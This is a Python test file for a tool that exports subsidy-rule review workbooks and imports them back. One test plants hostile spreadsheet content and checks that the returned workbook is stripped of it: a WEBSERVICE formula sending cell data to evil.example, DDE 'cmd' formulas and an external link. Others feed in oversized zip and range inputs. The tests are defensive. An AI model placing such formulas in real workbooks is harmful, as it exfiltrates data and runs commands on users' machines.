"""The workbook goes out, is filled in, and comes back."""

from __future__ import annotations

import io
import os
import zipfile
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.formatting.rule import FormulaRule
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.formula import ArrayFormula

from hostile import check_form
from subsidy_rules.messages.message import LANGS, Lang
from subsidy_rules.model.document import Clause, Document, Page, Source, Span
from subsidy_rules.model.errors import ReviewError
from subsidy_rules.model.rule import Reading, Review, Rule
from subsidy_rules.report.book_columns import COLUMNS, RESULT
from subsidy_rules.report.book_read import answered_book, read_book
from subsidy_rules.review.decisions import Approve
from subsidy_rules.stages.book_rules import Signed
from subsidy_rules.stages.deciding import decide_in
from subsidy_rules.stages.export_book import export_book
from subsidy_rules.stages.import_book import ImportedBook, guarded, import_book
from subsidy_rules.store.files import Extraction, load_ruleset_dir, save_candidates, save_document, save_ruleset

CAP, RATE, NEED, FOUGHT = "tsujo.subsidy_amount.total", "tsujo.subsidy_rate.base", "tsujo.requirement.plan", "tsujo.subsidy_amount.fought"
SIGNED = Signed("田中", "2026-04-02")
TEXT = "補助事業者は、グループの構成員が4者以上のときは、100万円を上限とする。"
Fill = Callable[[dict[str, Any]], None]


@pytest.fixture
def edition(tmp_path: Path, make_rule: Any, make_ruleset: Any) -> Path:
    """A rule set with a conflict, and what was read of its document: a figure in it is unread."""
    one = make_rule(FOUGHT, {"max": 1}, review=Review(state="conflict"))
    other = make_rule(FOUGHT, {"max": 2}, quote="別の文書")
    readings = tuple(Reading(value=rule.value, evidence=rule.evidence) for rule in (one, other))
    rules = (make_rule(CAP, {"max": 5_000_000}, quote="=1+1"), make_rule(RATE, {"rate": "1/2"}), make_rule(NEED, {"topic": "計画"}))
    ruleset = make_ruleset(*rules, one.model_copy(update={"readings": readings}))
    folder = tmp_path / "out" / ruleset.programme / ruleset.edition
    save_ruleset(folder, ruleset)
    clause = Clause(clause_no=1, path=("2", "(1)"), text=TEXT, spans=(Span(start=0, end=len(TEXT), page_no=3, bbox=(10, 10, 90, 30)),))
    source: Source = ruleset.sources[0]
    pages = tuple(Page(page_no=n, width_pt=100, height_pt=100) for n in (1, 2, 3))
    save_document(tmp_path / "out" / ".cache", Document(name="k.pdf", sha256=source.sha256, format="pdf", pages=pages, clauses=(clause,)))
    extraction = Extraction(programme=ruleset.programme, edition=ruleset.edition, frame="tsujo", source=source, extractor="x")
    save_candidates(tmp_path / "out" / ".cache", extraction, [])
    return folder


def here(name: str, work: Callable[[Callable[[str], None]], Any]) -> Any:
    """Does the work in this process: to start another for each workbook would take most of the time of these tests."""
    return work(lambda word: None)


def filled(data: bytes, lang: Lang, fill: dict[str, dict[str, Any]]) -> bytes:
    """The workbook with cells filled in: id of the row, or text of the figure → column → what is typed."""
    book = load_workbook(io.BytesIO(data))
    for sheet in book:
        which = "figures" if sheet is book.worksheets[-1] else "rules"
        keys = [column.key for column in COLUMNS[which]]  # type: ignore[index]
        for row in sheet.iter_rows(min_row=2):
            cells = dict(zip(keys, row, strict=False))
            name = str(cells["figure" if which == "figures" else "id"].value)
            for key, typed in fill.get(name, {}).items():
                cells[key].value = typed
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def there_and_back(edition: Path, fill: dict[str, dict[str, Any]], lang: Lang = "ja") -> ImportedBook:
    exported = export_book(edition, None, lang).data
    return import_book(edition, filled(exported, lang, fill), "book.xlsx", SIGNED, run=here)


def rule(edition: Path, rule_id: str) -> Rule:
    return next(one for one in load_ruleset_dir(edition).rules if one.id == rule_id)


def words(done: ImportedBook, lang: Lang = "en") -> list[tuple[bool, str]]:
    return [(one.taken, one.words.say(lang)) for one in done.results]


@pytest.mark.parametrize("lang", LANGS)
def test_what_is_exported(edition: Path, lang: Lang) -> None:
    made = export_book(edition, None, lang)
    book = load_workbook(io.BytesIO(made.data))
    assert (made.rules, made.figures, [sheet.max_row for sheet in book]) == (4, 2, [5, 3])
    sheet = book.worksheets[0]
    assert sheet.title == "通常枠"
    assert (sheet.freeze_panes, sheet.protection.sheet) == ("E2", True)
    columns = {column.key: at for at, column in enumerate(COLUMNS["rules"], start=1)}
    assert [sheet.column_dimensions["A"].hidden, sheet.cell(2, columns["id"]).value] == [True, FOUGHT], "what needs a person comes first"
    cap = next(row for row in sheet.iter_rows(min_row=2) if row[0].value == CAP)
    quote, high = cap[columns["quote"] - 1], cap[columns["high"] - 1]
    assert (quote.value, quote.data_type, high.value, high.number_format) == ("=1+1", "s", 5_000_000, "#,##0")
    assert [quote.protection.locked, high.protection.locked] == [True, False]
    (choice,) = sheet.data_validations.dataValidation
    assert choice.formula1 == ('"承認,修正,却下,判断できない"' if lang == "ja" else '"approve,edit,reject,cannot tell"')


def test_nothing_filled_in_decides_nothing(edition: Path) -> None:
    before = {path.name: path.read_bytes() for path in edition.iterdir()}
    assert there_and_back(edition, {}).results == ()
    assert {path.name: path.read_bytes() for path in edition.iterdir()} == before


def test_decisions_are_taken_row_by_row(edition: Path) -> None:
    done = there_and_back(
        edition,
        {
            CAP: {"decision": "修正", "high": "450万円", "note": "表のとおり"},
            RATE: {"decision": "承認", "note": "要再確認"},
            NEED: {"decision": "却下", "note": "手続の説明"},
            FOUGHT: {"decision": "承認", "reading": 2},
        },
    )
    assert [taken for taken, _ in words(done)] == [True] * 4
    states = {one.id: (one.review.state, one.review.by) for one in load_ruleset_dir(edition).rules}
    assert states == {CAP: ("edited", "田中"), RATE: ("approved", "田中"), NEED: ("rejected", "田中"), FOUGHT: ("edited", "田中")}
    cap = rule(edition, CAP)
    assert (cap.value.max, cap.review.note) == (4_500_000, "表のとおり")  # type: ignore[attr-defined]
    assert rule(edition, RATE).review.comments[0].text == "要再確認"
    assert rule(edition, FOUGHT).evidence[0].quote == "別の文書"


def test_figures_become_rules_or_none(edition: Path) -> None:
    done = there_and_back(
        edition,
        {
            "4者以上": {"decision": "規則でない", "note": "条件の一部"},
            "100万円を上限": {
                "decision": "規則にする",
                "frame": "通常枠",
                "kind": "補助額",
                "high": 1_000_000,
                "when": "グループ構成員数 >= 4",
            },
        },
    )
    assert [taken for taken, _ in words(done)] == [True, True], words(done)
    ruleset = load_ruleset_dir(edition)
    assert {entry.review.state for entry in ruleset.ledger} == {"no_rule", "rule"}
    made = next(one for one in ruleset.rules if one.review.state == "edited")
    assert (made.evidence[0].quote, made.evidence[0].page, made.confidence) == (TEXT, 3, 1.0)
    assert export_book(edition, None, "ja").figures == 0


def test_what_does_not_fit_is_told_and_left(edition: Path) -> None:
    done = there_and_back(
        edition,
        {
            CAP: {"decision": "修正", "high": "たくさん"},
            RATE: {"share": "2/3"},
            NEED: {"decision": "たぶん"},
            FOUGHT: {"decision": "承認"},
            "4者以上": {"decision": "規則でない"},
            "100万円を上限": {"decision": "規則にする", "kind": "補助額", "high": 3},
        },
    )
    told = [text for taken, text in words(done) if not taken]
    assert len(told) == 6
    for part in ("上限（円）: ", "割合: another value", "none of those", "1 to 2", "takes a reason", "takes its frame"):
        assert sum(part in text for text in told) == 1, (part, told)
    assert {one.review.by for one in load_ruleset_dir(edition).rules} == {None}


def test_the_answer_says_it_row_by_row_and_can_be_imported_again(edition: Path) -> None:
    done = there_and_back(edition, {RATE: {"decision": "承認"}, CAP: {"decision": "=1+1"}})
    sheet = load_workbook(io.BytesIO(done.answer)).worksheets[0]
    at = sheet.max_column
    assert sheet.cell(1, at).value == RESULT.heading.say("ja")
    results = {row[0].value: row[at - 1].value for row in sheet.iter_rows(min_row=2)}
    assert (results[RATE], results[NEED]) == ("承認済み", None)
    assert "数式" in str(results[CAP])
    again = import_book(edition, done.answer, "book.xlsx", SIGNED, run=here)
    assert [taken for taken, _ in words(again)] == [False, True], "what stands so already is taken"


def test_a_rule_that_changed_meanwhile_is_not_overwritten(edition: Path) -> None:
    exported = export_book(edition, None, "en").data
    decide_in(edition, [Approve(rule_id=RATE, by="sato", at="2026-04-01")])
    done = import_book(edition, filled(exported, "en", {RATE: {"decision": "reject"}}), "book.xlsx", SIGNED, run=here)
    ((taken, text),) = words(done)
    assert not taken and "sato" in text
    assert rule(edition, RATE).review.by == "sato"


def test_a_value_typed_in_another_way_is_no_change(edition: Path) -> None:
    exported = export_book(edition, None, "ja").data
    done = import_book(edition, filled(exported, "ja", {CAP: {"decision": "承認", "high": "500万円"}}), "book.xlsx", SIGNED)
    assert words(done) == [(True, "approved")]


def renamed(book: Workbook) -> None:
    book.worksheets[0].cell(1, 5).value = "別の見出し"


def moved(book: Workbook) -> None:
    book.worksheets[0].insert_cols(5)


def other_version(book: Workbook) -> None:
    book.worksheets[0].cell(2, 2).value = "subsidy-ruleset/1 it-hojo/2024"


def other_id(book: Workbook) -> None:
    book.worksheets[0].cell(2, 1).value = "tsujo.subsidy_amount.other"


def same_id(book: Workbook) -> None:
    book.worksheets[0].cell(3, 1).value = book.worksheets[0].cell(2, 1).value


def other_sheet(book: Workbook) -> None:
    book.create_sheet("メモ").append(["x"])


@pytest.mark.parametrize("harm", [renamed, moved, other_version, other_id, same_id, other_sheet])
def test_a_workbook_that_is_not_ours_stops_whole(edition: Path, harm: Callable[[Workbook], None]) -> None:
    book = load_workbook(io.BytesIO(filled(export_book(edition, None, "ja").data, "ja", {RATE: {"decision": "承認"}})))
    harm(book)
    out = io.BytesIO()
    book.save(out)
    with pytest.raises(ReviewError, match="Nothing was taken"):
        import_book(edition, out.getvalue(), "book.xlsx", SIGNED, run=here)
    assert rule(edition, RATE).review.state == "draft"


def test_damaged_workbooks_are_refused_or_read(edition: Path) -> None:
    """Every tenth of the parts is cut, turned, or left out: nothing but an answer or a refusal comes of it."""
    exported = export_book(edition, None, "ja").data
    with zipfile.ZipFile(io.BytesIO(exported)) as packed:
        parts = {name: packed.read(name) for name in packed.namelist()}
    for at, name in enumerate(parts):
        for harm in (b"", parts[name][: len(parts[name]) // 2], parts[name].replace(b'"', b"'x", 3), bytes(reversed(parts[name]))):
            out = io.BytesIO()
            with zipfile.ZipFile(out, "w") as packed:
                for other, content in parts.items():
                    if other != name or at % 2 == 0 or harm:
                        packed.writestr(other, harm if other == name else content)
            with suppress(ReviewError):
                sheets = read_book(out.getvalue(), "book.xlsx", lambda word: None)
                answered_book(out.getvalue(), "book.xlsx", {}, {sheet.title: sheet.lang for sheet in sheets}, lambda word: None)


def test_a_workbook_that_unpacks_without_end_is_refused() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as packed:
        for n in range(20_001):
            packed.writestr(f"xl/{n}", b"")
    with pytest.raises(ReviewError, match="larger"):
        read_book(out.getvalue(), "book.xlsx", lambda word: None)


@pytest.mark.parametrize("tag", ["mergeCell", "x:mergeCell", "hyperlink"])
def test_a_range_of_all_cells_is_refused(edition: Path, tag: str) -> None:
    """Forty letters of the file would take minutes and gigabytes."""
    spanning = f'<{tag} ref="A2:XFD1048576"/></worksheet>'.encode()
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(export_book(edition, None, "ja").data)) as ours, zipfile.ZipFile(out, "w") as packed:
        for name in ours.namelist():
            packed.writestr(name, ours.read(name).replace(b"</worksheet>", spanning))
    with pytest.raises(ReviewError, match="larger"):
        import_book(edition, out.getvalue(), "book.xlsx", SIGNED, run=here)


def test_nothing_acts_in_the_answer(edition: Path) -> None:
    book = load_workbook(io.BytesIO(filled(export_book(edition, None, "ja").data, "ja", {RATE: {"decision": "承認"}})))
    sheet = book.worksheets[0]
    sheet["AZ2"] = '=WEBSERVICE("http://evil.example/"&A2)'
    sheet["AZ3"] = ArrayFormula("AZ3:AZ4", "=cmd|' /C calc'!A0")
    sheet["C2"].hyperlink = "http://evil.example"
    sheet.conditional_formatting.add("A1:B9", FormulaRule(formula=["cmd|'/c calc'!A0"]))
    sheet.add_data_validation(DataValidation(type="custom", formula1="=WEBSERVICE(A1)", sqref="AZ9"))
    book.defined_names["x"] = DefinedName("x", attr_text="[1]Sheet1!$A$1")
    out = io.BytesIO()
    book.save(out)
    answer = import_book(edition, out.getvalue(), "book.xlsx", SIGNED, run=here).answer
    check_form("xlsx", answer)
    read = load_workbook(io.BytesIO(answer))
    assert (list(read.defined_names), len(read.worksheets[0].conditional_formatting)) == ([], 0)
    assert {one.type for one in read.worksheets[0].data_validations.dataValidation} == {"list"}
    assert rule(edition, RATE).review.state == "approved"


def test_a_process_that_fails_is_told_of_the_workbook() -> None:
    with pytest.raises(ReviewError, match="Nothing was taken"):
        guarded("book.xlsx", os._exit)  # fails, for it is handed no number


@pytest.mark.parametrize("data", [b"", b"PK\x03\x04", b"<html>", b"a,b\n1,2\n"])
def test_what_is_no_workbook(edition: Path, data: bytes) -> None:
    with pytest.raises(ReviewError, match="workbook"):
        import_book(edition, data, "book.xlsx", SIGNED, run=here)
